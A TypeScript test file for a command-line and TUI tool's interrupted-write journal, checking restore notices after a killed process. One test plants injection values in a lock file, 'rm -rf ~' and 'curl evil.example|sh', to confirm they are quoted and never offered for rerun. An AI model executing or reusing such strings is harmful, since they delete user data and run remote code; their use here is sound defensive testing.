/**
 * The journal a TUI write leaves: its command in words a user recognises, and the backup it took,
 * exactly like the CLI's — so a kill after the backup is named with its restore command; and a lock
 * file's contents are never turned into a runnable suggestion unquoted.
 */
import { spawnSync } from 'node:child_process';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { interruptedWrite, withScopeLock } from '../../source/backup/scope-lock.js';
import { GLOBAL_SCOPE } from '../../source/discord/model.js';
import { deleteCommand } from '../../source/operations/delete-command.js';
import { openWorkspace } from '../../source/operations/workspace.js';
import { useIsolatedHome } from '../helpers/homes.js';
import { APP_ID, FakeApi, makeCommand } from '../ui/helpers/fake-api.js';

const home = useIsolatedHome();

const lockFile = () => join(home.home, 'data', 'locks', `${APP_ID}-global.lock`);
const deadPid = () => spawnSync(process.execPath, ['-e', '0']).pid!;

describe('the journal of a TUI write', () => {
  it('names the delete in words and its backup while the DELETE is in flight; after a kill the next start says how to restore', async () => {
    const ban = makeCommand({ name: 'ban' });
    const api = new FakeApi([ban]);
    let release!: () => void;
    const deleting = deleteCommand(openWorkspace(api, home.environment.paths()), { scope: GLOBAL_SCOPE, command: ban, reason: 'delete ban' });
    // Hold the DELETE (not the backup's reads) until the journal has been read.
    await new Promise<void>((resolve) => {
      const original = api.deleteCommand.bind(api);
      api.deleteCommand = async (scope, id) => {
        resolve();
        await new Promise<void>((go) => (release = go));
        return original(scope, id);
      };
    });
    const journal = JSON.parse(await readFile(lockFile(), 'utf8')) as { command: string; backup?: string; rerunnable?: boolean };
    expect(journal.command).toBe('delete ban in the TUI');
    expect(journal.command).not.toMatch(/^TUI:/);
    expect(journal.backup).toMatch(/\.json$/);
    expect(journal.rerunnable).toBe(false);

    // As if the process had been killed here: its pid is gone, the journal stays.
    await writeFile(lockFile(), JSON.stringify({ ...journal, pid: deadPid(), host: hostname() }));
    const notice = await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE);
    expect(notice).toContain('An earlier `delete ban in the TUI`');
    expect(notice).toContain(`To undo what it did, \`cmd-tui restore ${journal.backup}\`.`);
    expect(notice).not.toContain('Running the same command again');
    expect(notice).not.toContain('It had not written anything yet');
    release();
    await deleting;
  });

  it('quotes a hand-edited backup path and never offers a command with shell syntax to run again', async () => {
    await mkdir(join(home.home, 'data', 'locks'), { recursive: true });
    await writeFile(lockFile(), JSON.stringify({ pid: deadPid(), host: hostname(), command: 'apply x.json; rm -rf ~', since: '2026-11-24T10:00:00.000Z', backup: 'x.json; curl evil.example|sh' }));
    const notice = (await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE))!;
    expect(notice).toContain("`cmd-tui restore 'x.json; curl evil.example|sh'`");
    expect(notice).not.toContain('Running the same command again');
  });

  it('an unrelated write keeps an interrupted apply\'s journal; only the same apply run again clears it', async () => {
    await mkdir(join(home.home, 'data', 'locks'), { recursive: true });
    await writeFile(lockFile(), JSON.stringify({ pid: deadPid(), host: hostname(), command: 'apply commands.json', since: '2026-11-24T10:00:00.000Z', backup: '/backups/before.json' }));
    const ping = makeCommand({ name: 'ping' });
    await deleteCommand(openWorkspace(new FakeApi([ping]), home.environment.paths()), { scope: GLOBAL_SCOPE, command: ping, reason: 'delete ping' });
    expect(await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE)).toContain('An earlier `apply commands.json`');
    await withScopeLock(home.environment.paths(), APP_ID, GLOBAL_SCOPE, 'apply commands.json', async () => undefined);
    expect(await interruptedWrite(home.environment.paths(), APP_ID, GLOBAL_SCOPE)).toBeUndefined();
  });
});
